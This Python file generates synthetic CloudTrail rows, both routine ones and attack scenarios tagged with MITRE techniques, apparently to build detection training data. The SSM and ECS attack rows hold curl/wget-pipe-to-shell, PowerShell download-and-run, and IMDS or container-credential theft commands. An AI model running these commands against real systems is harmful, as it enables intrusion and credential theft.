# ruff: noqa: E501
"""What CloudTrail tells of daily work and of attacks in the services that other tables leave out.

A row is `who ;; service ;; call ;; {what was asked}`. Who: `person`, `machine`, `service` (AWS itself), `stray` (a name or key at another's place), `root` or `nobody`. In the JSON `_got` is the answer, `_more` further data,
`_error` and `_message` a refusal, `_resources` what was touched, `_from` the account that a caller of another account comes from, `_session` the name of a role's session.
"""
from __future__ import annotations

from .phrases import phrased
from .table import Scenario, table

AWS_AUDIT: tuple[Scenario, ...] = table(phrased(r"""
# aws identity center kept
machine ;; sso ;; «CreateAccountAssignment|DeleteAccountAssignment» ;; {"instanceArn":"arn:aws:sso:::instance/ssoins-«hex:16»","targetId":"«account»","targetType":"AWS_ACCOUNT","permissionSetArn":"arn:aws:sso:::permissionSet/ssoins-«hex:16»/ps-«hex:16»","principalType":"GROUP","principalId":"«guid»"}
person ;; sso-directory ;; «CreateUser|UpdateUser|AddMemberToGroup|RemoveMemberFromGroup|ListGroups» ;; {"identityStoreId":"d-«hex:10»","groupId":"«guid»","groupName":"«dept»","memberId":{"userId":"«guid»"},"userName":"@mate@"}
machine ;; sso ;; «CreatePermissionSet|PutInlinePolicyToPermissionSet|ProvisionPermissionSet|AttachManagedPolicyToPermissionSet» ;; {"name":"«Developer|ReadOnly|«Word»Ops»","managedPolicyArn":"arn:aws:iam::aws:policy/«ReadOnlyAccess|job-function/ViewOnlyAccess|AWSSupportAccess»","sessionDuration":"PT«4|8»H"}
person ;; sso ;; «GetRoleCredentials|ListAccountRoles|Authenticate|Federate» ;; {"accountId":"«account»","roleName":"«Developer|ReadOnly»"}
person ;; sso ;; «CreateToken|Logout» ;; {"clientId":"«mixed:20»","grantType":"«authorization_code|refresh_token»","scope":["sso:account:access"]}
person ;; sso-directory ;; «StartMfaDeviceRegistration|CompleteMfaDeviceRegistration|UpdatePassword» ;; {"userId":"«guid»","mfaType":"«WEBAUTHN|TOTP»"}
# T1098.003 aws identity center bent
«stray|person» ;; sso ;; CreateAccountAssignment ;; {"instanceArn":"arn:aws:sso:::instance/ssoins-«hex:16»","targetId":"«account»","targetType":"AWS_ACCOUNT","permissionSetArn":"arn:aws:sso:::permissionSet/ssoins-«hex:16»/ps-«hex:16»","principalType":"USER","principalId":"«guid»","permissionSetName":"AdministratorAccess"}
«stray|person» ;; sso ;; «AttachManagedPolicyToPermissionSet|PutInlinePolicyToPermissionSet» ;; {"name":"«Developer|ReadOnly|Billing»","managedPolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess","inlinePolicy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}","sessionDuration":"PT12H"}
«stray|person» ;; sso ;; «DisassociateDirectory|AssociateDirectory|StartExternalIdPConfiguration|UpdateSsoConfiguration» ;; {"directoryId":"d-«hex:10»","directoryType":"External","ssoUrl":"https://«domain»/saml"}
«stray|person» ;; sso-directory ;; «AddMemberToGroup|CreateUser» ;; {"identityStoreId":"d-«hex:10»","groupName":"«AWSAdministrators|AWSControlTowerAdmins|Admins»","userName":"«@outsider@|@junk@»"}
«stray|person» ;; sso ;; UpdateMfaDeviceManagementForDirectory ;; {"instanceArn":"arn:aws:sso:::instance/ssoins-«hex:16»","mfaMode":"DISABLED","allowedMfaTypes":[]}
stray ;; sso ;; CreateToken ;; {"clientId":"«mixed:20»","grantType":"urn:ietf:params:oauth:grant-type:device_code","scope":["sso:account:access"]}
# aws organisation kept
machine ;; organizations ;; «AttachPolicy|UpdatePolicy|CreatePolicy|TagResource|MoveAccount» ;; {"policyId":"p-«token:8»","targetId":"ou-«token:4»-«token:8»","name":"«deny-regions|require-imdsv2|deny-root|protect-trail»","type":"SERVICE_CONTROL_POLICY"}
person ;; organizations ;; «CreateAccount|DescribeCreateAccountStatus|ListAccounts|DescribeOrganization|ListPoliciesForTarget» ;; {"accountName":"«word»-«dev|stage|prod»","email":"aws+«word»@«sitedomain»"}
machine ;; controltower ;; «EnableControl|ResetLandingZone|CreateManagedAccount» ;; {"controlIdentifier":"arn:aws:controltower:«region»::control/AWS-GR_«LOG_GROUP_POLICY|ENCRYPTED_VOLUMES|RDS_INSTANCE_PUBLIC_ACCESS_CHECK»","targetIdentifier":"arn:aws:organizations::«account»:ou/o-«token:10»/ou-«token:4»-«token:8»"}
person ;; account ;; «GetContactInformation|PutAlternateContact|EnableRegion|GetAlternateContact» ;; {"alternateContactType":"«SECURITY|BILLING»","emailAddress":"«security|billing|cloud»@«sitedomain»","regionName":"eu-south-1"}
person ;; organizations ;; «DetachPolicy|DeletePolicy» ;; {"policyId":"p-«token:8»","targetId":"ou-«token:4»-«token:8»","name":"«test|poc|old»-«word»"}
# T1562 aws organisation left open
«stray|person» ;; organizations ;; LeaveOrganization ;; {"_error":"«AccessDeniedException|ConstraintViolationException»"}
«stray|person» ;; organizations ;; «DetachPolicy|DeletePolicy|UpdatePolicy|DisablePolicyType» ;; {"policyId":"p-«token:8»","targetId":"r-«token:4»","policyType":"SERVICE_CONTROL_POLICY","name":"«protect-trail|deny-regions|deny-leave|guardduty-lock»","content":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
«stray|person» ;; organizations ;; «InviteAccountToOrganization|AcceptHandshake» ;; {"target":{"id":"@outsider@","type":"EMAIL"},"handshakeId":"h-«hex:32»"}
«stray|person» ;; account ;; «PutAlternateContact|PutContactInformation|StartPrimaryEmailUpdate» ;; {"alternateContactType":"«SECURITY|OPERATIONS»","emailAddress":"@outsider@","primaryEmail":"@outsider@"}
«stray|person» ;; account ;; EnableRegion ;; {"regionName":"«me-central-1|af-south-1|ap-southeast-5|il-central-1»"}
«stray|root» ;; account ;; CloseAccount ;; {"accountId":"«account»"}
# aws consoles entered
person ;; signin ;; ConsoleLogin ;; {"_got":{"ConsoleLogin":"Success"},"_more":{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAUsed":"Yes"}}
person ;; signin ;; ConsoleLogin ;; {"_got":{"ConsoleLogin":"Failure"},"_error":"Failed authentication","_message":"Failed authentication","_more":{"LoginTo":"https://«region».console.aws.amazon.com/s3/home","MFAUsed":"«Yes|No»"}}
person ;; signin ;; «SwitchRole|ExitRole|RenewRole» ;; {"_got":{"SwitchRole":"Success"},"_more":{"SwitchFrom":"arn:aws:iam::«account»:user/«user»","RedirectTo":"https://console.aws.amazon.com/cloudwatch/home","DisplayName":"«dev|stage|prod-ro»"}}
person ;; signin ;; «CheckMfa|GetSigninToken|UserAuthentication|CredentialVerification» ;; {"_got":{"CheckMfa":"Success"},"_more":{"MfaType":"«U2F MFA|Virtual MFA»","CredentialType":"«PASSWORD|EXTERNAL_IDP|WEBAUTHN»","AuthWorkflowID":"«guid»"}}
root ;; signin ;; ConsoleLogin ;; {"_got":{"ConsoleLogin":"Success"},"_more":{"LoginTo":"https://console.aws.amazon.com/billing/home","MobileVersion":"No","MFAUsed":"Yes","MFAIdentifier":"arn:aws:iam::«account»:u2f/root-account-mfa-«hex:8»"}}
person ;; iam ;; «ChangePassword|EnableMFADevice|CreateVirtualMFADevice|ResyncMFADevice» ;; {"userName":"«user»","serialNumber":"arn:aws:iam::«account»:mfa/«user»"}
# T1078.004 aws consoles entered by strangers
stray ;; signin ;; ConsoleLogin ;; {"_got":{"ConsoleLogin":"Success"},"_more":{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAUsed":"No"}}
«stray|root» ;; signin ;; ConsoleLogin ;; {"_got":{"ConsoleLogin":"Failure"},"_error":"«Failed authentication|No username found in supplied account»","_message":"«Failed authentication|No username found in supplied account»","_more":{"LoginTo":"https://console.aws.amazon.com/console/home","MFAUsed":"No"}}
root ;; signin ;; «PasswordRecoveryRequested|PasswordRecoveryCompleted|PasswordUpdated|EmailUpdated» ;; {"_got":{"PasswordRecoveryCompleted":"Success"},"_more":{"MFAUsed":"No"}}
stray ;; signin ;; GetSigninToken ;; {"_got":{"GetSigninToken":"Success"},"_more":{"MobileVersion":"No","SessionDuration":"43200"}}
«stray|root» ;; iam ;; «DeactivateMFADevice|DeleteVirtualMFADevice|UpdateLoginProfile|DeleteAccountPasswordPolicy|CreateLoginProfile» ;; {"userName":"«admin|«admin»|root-ops|billing»","serialNumber":"arn:aws:iam::«account»:mfa/«admin»","passwordResetRequired":false}
root ;; «iam ;; CreateAccessKey|s3 ;; DeleteBucketPolicy|ec2 ;; RunInstances» ;; {"_got":{"accessKey":{"status":"Active"}},"_more":{"MFAUsed":"No"}}
# aws roles taken on by day
machine ;; sts ;; AssumeRoleWithWebIdentity ;; {"roleArn":"arn:aws:iam::«account»:role/«github-deploy|gitlab-ci|@thing@»","roleSessionName":"«GitHubActions|gitlab-«num:1000:99999»»","durationSeconds":«900|3600»,"_more":{"identityProviderConnectionVerificationMethod":"IAMTrustStore"},"_got":{"subjectFromWebIdentityToken":"repo:«site»/«word»:ref:refs/heads/main","provider":"arn:aws:iam::«account»:oidc-provider/token.actions.githubusercontent.com"}}
service ;; sts ;; AssumeRole ;; {"roleArn":"arn:aws:iam::«account»:role/«aws-service-role/AWSServiceRoleForECS|@thing@-task|lambda-@thing@»","roleSessionName":"«hex:12»","_session":"«ecs-tasks|lambda|ec2|states».amazonaws.com"}
machine ;; sts ;; AssumeRole ;; {"roleArn":"arn:aws:iam::«account»:role/«OrganizationAccountAccessRole|terraform|audit-readonly»","roleSessionName":"«terraform|aws-go-sdk-«num:1000000000:1999999999»|audit»","durationSeconds":3600}
person ;; sts ;; AssumeRoleWithSAML ;; {"sAMLAssertionID":"_«guid»","roleSessionName":"@mate@","principalArn":"arn:aws:iam::«account»:saml-provider/«okta|AzureAD|adfs»","roleArn":"arn:aws:iam::«account»:role/«Developer|ReadOnly»","durationSeconds":«3600|28800»}
machine ;; sts ;; «AssumeRole|GetCallerIdentity|GetSessionToken» ;; {"roleArn":"arn:aws:iam::«account»:role/vendor-«datadog|wiz|cloudhealth»","externalId":"«guid»","roleSessionName":"«datadog|wiz»","_from":"«num:100000000000:999999999999»","_session":"«datadog|wiz-scanner»"}
person ;; sts ;; «GetCallerIdentity|DecodeAuthorizationMessage|GetSessionToken» ;; {"durationSeconds":«3600|43200»,"serialNumber":"arn:aws:iam::«account»:mfa/«user»","tokenCode":"«num:100000:999999»"}
# T1550.001 aws roles taken on by others
stray ;; sts ;; AssumeRole ;; {"roleArn":"arn:aws:iam::«account»:role/«OrganizationAccountAccessRole|admin|terraform|break-glass»","roleSessionName":"«@junk@|aws-go-sdk-«num:1000000000:1999999999»|botocore-session-«num:1000000000:1999999999»»","durationSeconds":«3600|43200»}
machine ;; sts ;; AssumeRole ;; {"roleArn":"arn:aws:iam::«num:100000000000:999999999999»:role/«admin|OrganizationAccountAccessRole|@thing@»","roleSessionName":"@junk@","_error":"AccessDenied"}
stray ;; sts ;; GetFederationToken ;; {"name":"«admin|@junk@»","durationSeconds":129600,"policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}
nobody ;; sts ;; AssumeRoleWithWebIdentity ;; {"roleArn":"arn:aws:iam::«account»:role/«github-deploy|@thing@»","roleSessionName":"@junk@","_got":{"subjectFromWebIdentityToken":"repo:«letters:5:9»/«word»:ref:refs/heads/«letters:4»","provider":"arn:aws:iam::«account»:oidc-provider/token.actions.githubusercontent.com"}}
stray ;; sts ;; «GetCallerIdentity|GetAccessKeyInfo|GetSessionToken» ;; {"accessKeyId":"AKIA«HEX:16»","durationSeconds":129600}
stray ;; iam ;; UpdateAssumeRolePolicy ;; {"roleName":"@thing@","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"«*|arn:aws:iam::«num:100000000000:999999999999»:root»\"},\"Action\":\"sts:AssumeRole\"}]}"}
machine ;; rolesanywhere ;; «CreateSession|CreateTrustAnchor|CreateProfile» ;; {"trustAnchorArn":"arn:aws:rolesanywhere:«region»:«account»:trust-anchor/«guid»","source":{"sourceType":"CERTIFICATE_BUNDLE","x509CertificateData":"-----BEGIN CERTIFICATE-----\\nMII«b64:24»"},"name":"@junk@","enabled":true}
# aws trust policies written by code
machine ;; iam ;; UpdateAssumeRolePolicy ;; {"roleName":"@thing@","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"«Service\":\"«lambda|ecs-tasks|ec2».amazonaws.com|AWS\":\"arn:aws:iam::«account»:role/ci»\"},\"Action\":\"sts:AssumeRole\"}]}"}
machine ;; iam ;; «CreateOpenIDConnectProvider|UpdateOpenIDConnectProviderThumbprint|TagOpenIDConnectProvider|UpdateSAMLProvider» ;; {"url":"https://«token.actions.githubusercontent.com|gitlab.com|oidc.eks.«region».amazonaws.com/id/«HEX:32»»","clientIDList":["sts.amazonaws.com"]}
machine ;; iam ;; «CreatePolicyVersion|SetDefaultPolicyVersion|DeletePolicyVersion» ;; {"policyArn":"arn:aws:iam::«account»:policy/@thing@","setAsDefault":true,"policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\",\"sqs:«SendMessage|ReceiveMessage»\"],\"Resource\":\"arn:aws:s3:::«site»-«word»/*\"}]}"}
person ;; iam ;; «PassRole|SimulatePrincipalPolicy|GenerateServiceLastAccessedDetails|GetAccountAuthorizationDetails» ;; {"roleArn":"arn:aws:iam::«account»:role/@thing@","policySourceArn":"arn:aws:iam::«account»:user/«other»"}
machine ;; access-analyzer ;; «ListFindings|ValidatePolicy|CreateAnalyzer|ArchiveFindings» ;; {"analyzerArn":"arn:aws:access-analyzer:«region»:«account»:analyzer/org","type":"«ORGANIZATION|ACCOUNT»"}
# T1484.002 aws trust written for strangers
«stray|machine» ;; iam ;; «CreateOpenIDConnectProvider|CreateSAMLProvider|UpdateSAMLProvider|AddClientIDToOpenIDConnectProvider» ;; {"url":"https://«domain»","name":"@junk@","clientIDList":["sts.amazonaws.com"]}
«stray|person|machine» ;; iam ;; «CreatePolicyVersion|SetDefaultPolicyVersion» ;; {"policyArn":"arn:aws:iam::«account»:policy/@thing@","setAsDefault":true,"versionId":"v«1|2»","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"«iam:PassRole|*|iam:*»\"],\"Resource\":\"*\"}]}"}
«stray|person» ;; iam ;; «DeleteRolePermissionsBoundary|DeleteUserPermissionsBoundary|PutRolePermissionsBoundary» ;; {"roleName":"@thing@","userName":"«user»","permissionsBoundary":"arn:aws:iam::aws:policy/AdministratorAccess"}
stray ;; iam ;; «GetAccountAuthorizationDetails|GenerateCredentialReport|GetCredentialReport|ListAttachedUserPolicies» ;; {"_error":"«AccessDenied|»","maxItems":1000}
«stray|person» ;; access-analyzer ;; DeleteAnalyzer ;; {"analyzerName":"«org|external-access»"}
# aws machines reached through ssm
person ;; ssm ;; «StartSession|ResumeSession|TerminateSession» ;; {"target":"i-«hex:17»","documentName":"«SSM-SessionManagerRunShell|AWS-StartPortForwardingSession»","reason":"@ticket@"}
machine ;; ssm ;; SendCommand ;; {"documentName":"«AWS-RunPatchBaseline|AWS-ConfigureAWSPackage|AmazonCloudWatch-ManageAgent|AWS-RunAnsiblePlaybook»","targets":[{"key":"tag:PatchGroup","values":["«prod|stage»"]}],"parameters":{"Operation":["«Scan|Install»"]}}
machine ;; ssm ;; «GetParameter|GetParametersByPath|PutParameter|GetParameters» ;; {"name":"/«prod|stage»/«word»/«db_url|api_base|log_level»","withDecryption":«true|false»}
machine ;; ssm ;; «UpdateAssociationStatus|CreateAssociation|StartAutomationExecution|PutInventory|UpdateInstanceInformation» ;; {"name":"AWS-«GatherSoftwareInventory|UpdateSSMAgent|PatchAsgInstance»","instanceId":"i-«hex:17»"}
person ;; ec2-instance-connect ;; SendSSHPublicKey ;; {"instanceId":"i-«hex:17»","instanceOSUser":"ec2-user","sSHPublicKey":"ssh-ed25519 AAAA«b64:40»"}
person ;; ssm ;; «DescribeInstanceInformation|DescribeSessions|ListCommands|GetCommandInvocation» ;; {"maxResults":50}
# T1651 aws machines reached by others
«stray|machine» ;; ssm ;; SendCommand ;; {"documentName":"«AWS-RunShellScript|AWS-RunPowerShellScript»","instanceIds":["i-«hex:17»","i-«hex:17»"],"parameters":{"commands":["«curl -s http://«pub»/«letters:3» ¦ bash|curl http://«imds»/latest/meta-data/iam/security-credentials/|echo «b64:40» ¦ base64 -d ¦ sh|IEX(New-Object Net.WebClient).DownloadString('http://«pub»/«letters:3»')»"]}}
stray ;; ssm ;; StartSession ;; {"target":"i-«hex:17»","documentName":"AWS-StartPortForwardingSessionToRemoteHost","parameters":{"host":["«ip2»"],"portNumber":["«3389|5432|445»"]}}
stray ;; ssm ;; «GetParametersByPath|DescribeParameters|GetParameterHistory» ;; {"path":"/","recursive":true,"withDecryption":true,"maxResults":10}
«stray|person» ;; ssm ;; «CreateDocument|ModifyDocumentPermission|CreateAssociation|UpdateDocument» ;; {"name":"@junk@","documentType":"Command","content":"{\"mainSteps\":[{\"action\":\"aws:runShellScript\",\"inputs\":{\"runCommand\":[\"wget -qO- http://«pub»/«letters:2» ¦ sh\"]}}]}","accountIdsToAdd":["«num:100000000000:999999999999»"]}
stray ;; ec2-instance-connect ;; «SendSSHPublicKey|SendSerialConsoleSSHPublicKey» ;; {"instanceId":"i-«hex:17»","instanceOSUser":"«root|ubuntu|ec2-user»","sSHPublicKey":"ssh-rsa AAAA«b64:40» «letters:4:7»@«letters:4:7»","serialPort":0}
«stray|person» ;; ec2 ;; «EnableSerialConsoleAccess|GetPasswordData|ModifyInstanceAttribute» ;; {"instanceId":"i-«hex:17»","attribute":"userData","value":"«b64:60»"}
# aws networks built
machine ;; ec2 ;; «CreateTransitGatewayVpcAttachment|CreateVpcPeeringConnection|AcceptVpcPeeringConnection|CreateFlowLogs|CreateNetworkAclEntry|AssociateRouteTable|ReplaceRoute» ;; {"vpcId":"vpc-«hex:17»","peerOwnerId":"«account»","cidrBlock":"@network@","ruleAction":"«allow|deny»","egress":«true|false»}
machine ;; ec2 ;; «AllocateAddress|AssociateAddress|ReleaseAddress|CreateNetworkInterface|ModifyNetworkInterfaceAttribute|CreateVpcEndpoint» ;; {"domain":"vpc","instanceId":"i-«hex:17»","serviceName":"com.amazonaws.«region».«s3|ecr.dkr|logs»"}
person ;; ec2 ;; «RevokeSecurityGroupIngress|UpdateSecurityGroupRuleDescriptionsIngress|ModifySecurityGroupRules|DeleteFlowLogs» ;; {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"ipRanges":{"items":[{"cidrIp":"«peer»/32","description":"«user» home @ticket@"}]}}]}}
machine ;; route53 ;; ChangeResourceRecordSets ;; {"hostedZoneId":"Z«HEX:13»","changeBatch":{"changes":[{"action":"UPSERT","resourceRecordSet":{"name":"_«hex:32».«word».«sitedomain».","type":"«CNAME|TXT|A»","tTL":300}}],"comment":"Managed by Terraform"}}
machine ;; elasticloadbalancing ;; «RegisterTargets|ModifyListener|CreateRule|SetSecurityGroups» ;; {"targetGroupArn":"arn:aws:elasticloadbalancing:«region»:«account»:targetgroup/@thing@/«hex:16»","targets":[{"id":"«ip2»","port":8080}]}
machine ;; wafv2 ;; «UpdateWebACL|UpdateIPSet|AssociateWebACL» ;; {"name":"edge","scope":"REGIONAL","id":"«guid»","addresses":["«pub»/32"],"lockToken":"«guid»"}
# T1562.007 aws networks opened
«stray|person|machine» ;; ec2 ;; «CreateTrafficMirrorSession|CreateTrafficMirrorTarget|CreateTrafficMirrorFilterRule» ;; {"networkInterfaceId":"eni-«hex:17»","trafficMirrorTargetId":"tmt-«hex:17»","description":"@junk@","destinationCidrBlock":"0.0.0.0/0"}
«stray|person» ;; ec2 ;; «DeleteFlowLogs|DeleteNetworkAclEntry|ReplaceNetworkAclEntry» ;; {"flowLogId":["fl-«hex:17»","fl-«hex:17»"],"ruleAction":"allow","cidrBlock":"0.0.0.0/0","protocol":"-1","egress":«true|false»}
«stray|machine» ;; ec2 ;; «AuthorizeSecurityGroupIngress|ModifySecurityGroupRules» ;; {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"«-1|tcp»","fromPort":«0|22|3389|5432»,"toPort":«65535|22|3389|5432»,"ipRanges":{"items":[{"cidrIp":"«0.0.0.0/0|«pub»/32»"}]}}]}}
«stray|person» ;; route53 ;; ChangeResourceRecordSets ;; {"hostedZoneId":"Z«HEX:13»","changeBatch":{"changes":[{"action":"UPSERT","resourceRecordSet":{"name":"«mail|vpn|login|www».«sitedomain».","type":"«A|MX|NS»","tTL":60,"resourceRecords":[{"value":"«pub»"}]}}]}}
«stray|person» ;; route53domains ;; «DisableDomainTransferLock|RetrieveDomainAuthCode|TransferDomainToAnotherAwsAccount|UpdateDomainNameservers» ;; {"domainName":"«sitedomain»","accountId":"«num:100000000000:999999999999»","nameservers":[{"name":"ns1.«domain»"}]}
«stray|person» ;; ec2 ;; «CreateVpcPeeringConnection|CreateClientVpnEndpoint|CreateVpnConnection|AuthorizeClientVpnIngress» ;; {"vpcId":"vpc-«hex:17»","peerOwnerId":"«num:100000000000:999999999999»","peerVpcId":"vpc-«hex:17»","targetNetworkCidr":"0.0.0.0/0","authorizeAllGroups":true}
«stray|person» ;; wafv2 ;; «DisassociateWebACL|DeleteWebACL|DeleteLoggingConfiguration|UpdateWebACL» ;; {"resourceArn":"arn:aws:elasticloadbalancing:«region»:«account»:loadbalancer/app/@thing@/«hex:16»","defaultAction":{"allow":{}},"rules":[]}
# aws containers run
machine ;; ecs ;; «RegisterTaskDefinition|UpdateService|RunTask|DescribeTasks|StopTask» ;; {"cluster":"«prod|stage»","family":"@thing@","containerDefinitions":[{"image":"«account».dkr.ecr.«region».amazonaws.com/«word»:«hex:7»","environment":[{"name":"LOG_LEVEL","value":"info"}]}],"taskRoleArn":"arn:aws:iam::«account»:role/@thing@-task"}
machine ;; ecr ;; «GetAuthorizationToken|BatchGetImage|PutImage|InitiateLayerUpload|DescribeImageScanFindings|BatchDeleteImage» ;; {"registryId":"«account»","repositoryName":"«word»/«tech»","imageTag":"«hex:7»"}
machine ;; eks ;; «UpdateNodegroupVersion|CreateAddon|UpdateAddon|DescribeCluster|ListNodegroups|UpdateClusterVersion» ;; {"name":"«prod|stage|«word»»","addonName":"«vpc-cni|coredns|aws-ebs-csi-driver»","version":"1.«num:27:31»"}
person ;; eks ;; «AccessKubernetesApi|DescribeCluster|ListClusters|CreateAccessEntry» ;; {"name":"«prod|stage»","principalArn":"arn:aws:iam::«account»:role/«Developer|@thing@»","policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy"}
person ;; ecs ;; ExecuteCommand ;; {"cluster":"«dev|stage»","task":"«hex:32»","container":"app","command":"«/bin/sh|rails console|python manage.py shell»","interactive":true}
machine ;; ecr ;; «SetRepositoryPolicy|PutLifecyclePolicy|PutImageScanningConfiguration|CreateRepository» ;; {"repositoryName":"«word»/«tech»","policyText":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«account»:root\"},\"Action\":\"ecr:BatchGetImage\"}]}"}
# T1610 aws containers of others
«stray|machine» ;; ecs ;; «RegisterTaskDefinition|RunTask|CreateService» ;; {"cluster":"«default|@junk@»","family":"@junk@","containerDefinitions":[{"image":"«docker.io/|»«letters:5:9»/«letters:4»:latest","cpu":«4096|16384»,"command":["sh","-c","«./«letters:3» -o «pub»:«port»|while true; do sleep 1; done|curl «imds»»"]}],"networkMode":"host","desiredCount":«num:20:500»,"taskRoleArn":"arn:aws:iam::«account»:role/«admin|@thing@»"}
stray ;; ecs ;; ExecuteCommand ;; {"cluster":"prod","task":"«hex:32»","container":"app","command":"«sh -c 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'|cat /proc/1/environ|/bin/sh -c env»","interactive":true}
«stray|person» ;; eks ;; «CreateAccessEntry|AssociateAccessPolicy» ;; {"name":"prod","principalArn":"arn:aws:iam::«num:100000000000:999999999999»:user/@junk@","policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy","accessScope":{"type":"cluster"}}
«stray|person» ;; eks ;; UpdateClusterConfig ;; {"name":"prod","resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["0.0.0.0/0"]},"logging":{"clusterLogging":[{"types":["audit","api","authenticator"],"enabled":false}]}}
«stray|machine» ;; ecr ;; «PutImage|SetRepositoryPolicy|PutImageTagMutability|DeleteRepository» ;; {"repositoryName":"«base|golden|«word»»","imageTag":"latest","imageTagMutability":"MUTABLE","force":true,"policyText":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"ecr:*\"}]}"}
# aws databases kept
machine ;; rds ;; «CreateDBSnapshot|CopyDBSnapshot|DeleteDBSnapshot|ModifyDBParameterGroup|RebootDBInstance|StartExportTask» ;; {"dBInstanceIdentifier":"@thing@","dBSnapshotIdentifier":"rds:@thing@-«date:%Y-%m-%d»","kmsKeyId":"alias/aws/rds","s3BucketName":"«site»-exports"}
person ;; rds ;; «ModifyDBInstance|RestoreDBInstanceFromDBSnapshot|DescribeDBLogFiles|DownloadDBLogFilePortion» ;; {"dBInstanceIdentifier":"«stage|dev|test»-«word»","publiclyAccessible":false,"applyImmediately":true,"dBInstanceClass":"db.t3.«medium|large»"}
machine ;; dynamodb ;; «CreateTable|UpdateTable|CreateBackup|UpdateContinuousBackups|ExportTableToPointInTime|DescribeTable» ;; {"tableName":"«word»-«prod|stage»","s3Bucket":"«site»-exports","pointInTimeRecoverySpecification":{"pointInTimeRecoveryEnabled":true}}
machine ;; rds-data ;; «ExecuteStatement|BatchExecuteStatement» ;; {"resourceArn":"arn:aws:rds:«region»:«account»:cluster:@thing@","sql":"«**********|SELECT 1»","database":"«word»"}
machine ;; backup ;; «StartBackupJob|CreateBackupPlan|StartCopyJob|PutBackupVaultLockConfiguration|BackupJobCompleted» ;; {"backupVaultName":"«daily|vault-«word»»","lifecycle":{"deleteAfterDays":«35|90|365»}}
person ;; redshift ;; «GetClusterCredentials|PauseCluster|ModifyCluster|CreateClusterSnapshot» ;; {"clusterIdentifier":"«word»-dw","dbUser":"«user»","durationSeconds":900,"autoCreate":false}
# T1537 aws databases copied and emptied
«stray|person» ;; rds ;; «ModifyDBSnapshotAttribute|ModifyDBClusterSnapshotAttribute» ;; {"dBSnapshotIdentifier":"@thing@-«date»","attributeName":"restore","valuesToAdd":["«all|«num:100000000000:999999999999»»"]}
«stray|person» ;; rds ;; ModifyDBInstance ;; {"dBInstanceIdentifier":"«prod|«word»-prod»","publiclyAccessible":true,"masterUserPassword":"****","applyImmediately":true,"backupRetentionPeriod":0,"deletionProtection":false}
«stray|machine» ;; rds ;; StartExportTask ;; {"exportTaskIdentifier":"@junk@","sourceArn":"arn:aws:rds:«region»:«account»:snapshot:prod-«date»","s3BucketName":"@junk@-«num:100:999»","kmsKeyId":"arn:aws:kms:«region»:«num:100000000000:999999999999»:key/«guid»"}
«stray|person» ;; rds ;; «DeleteDBInstance|DeleteDBCluster|DeleteDBSnapshot|DeleteDBInstanceAutomatedBackup» ;; {"dBInstanceIdentifier":"«prod|«word»-prod»","skipFinalSnapshot":true,"deleteAutomatedBackups":true}
«stray|machine» ;; dynamodb ;; «ExportTableToPointInTime|DeleteTable|DeleteBackup|Scan» ;; {"tableName":"«users|customers|payments»-prod","s3Bucket":"@junk@-«num:100:999»","s3BucketOwner":"«num:100000000000:999999999999»","exportFormat":"DYNAMODB_JSON"}
«stray|person» ;; backup ;; «DeleteRecoveryPoint|DeleteBackupVault|DeleteBackupPlan|DeleteBackupVaultLockConfiguration|PutBackupVaultAccessPolicy» ;; {"backupVaultName":"«daily|prod|vault-«word»»","recoveryPointArn":"arn:aws:backup:«region»:«account»:recovery-point:«guid»"}
stray ;; redshift ;; GetClusterCredentials ;; {"clusterIdentifier":"«word»-dw","dbUser":"«awsuser|admin|master»","durationSeconds":3600,"autoCreate":true,"dbGroups":["admins"]}
# aws objects of the day
machine ;; s3 ;; «GetObject|PutObject|HeadObject|DeleteObject|CopyObject» ;; {"bucketName":"«site»-@thing@","key":"«word»/«date:%Y/%m/%d»/«hex:12».«parquet|json.gz|csv|log»","_more":{"bytesTransferredOut":«num:200:900000»,"x-amz-id-2":"«b64:40»"}}
person ;; s3 ;; «GetObject|ListObjects|PutObject» ;; {"bucketName":"«site»-exports","key":"«dept»/«file»","_more":{"bytesTransferredOut":«num:200:900000»}}
machine ;; s3 ;; «PutBucketLifecycle|PutBucketVersioning|PutBucketReplication|PutBucketPublicAccessBlock|PutObjectLockConfiguration» ;; {"bucketName":"«site»-@thing@","PublicAccessBlockConfiguration":{"BlockPublicAcls":true,"BlockPublicPolicy":true},"VersioningConfiguration":{"Status":"Enabled"},"days":«90|365»}
machine ;; s3 ;; DeleteObjects ;; {"bucketName":"«site»-«tmp|cache|staging»","delete":"","_more":{"objects":«num:1:1000»,"x-amz-id-2":"«b64:40»"}}
service ;; s3 ;; «PutObject|GetBucketAcl» ;; {"bucketName":"«site»-cloudtrail","key":"AWSLogs/«account»/CloudTrail/«region»/«date:%Y/%m/%d»/«account»_CloudTrail_«region»_«date»T«num:1000:2359»Z_«mixed:16».json.gz","_session":"cloudtrail.amazonaws.com"}
person ;; s3 ;; «ListBuckets|GetBucketLocation|GetObject|HeadBucket» ;; {"bucketName":"«site»-@thing@","_error":"AccessDenied","_message":"Access Denied"}
# T1530 aws objects carried away or locked
stray ;; s3 ;; GetObject ;; {"bucketName":"«site»-«backup|exports|db-dumps»","key":"«customers|prod|users»/«full|dump»-«date».«sql.gz|bak|csv»","_more":{"bytesTransferredOut":«num:90000000:9000000000»}}
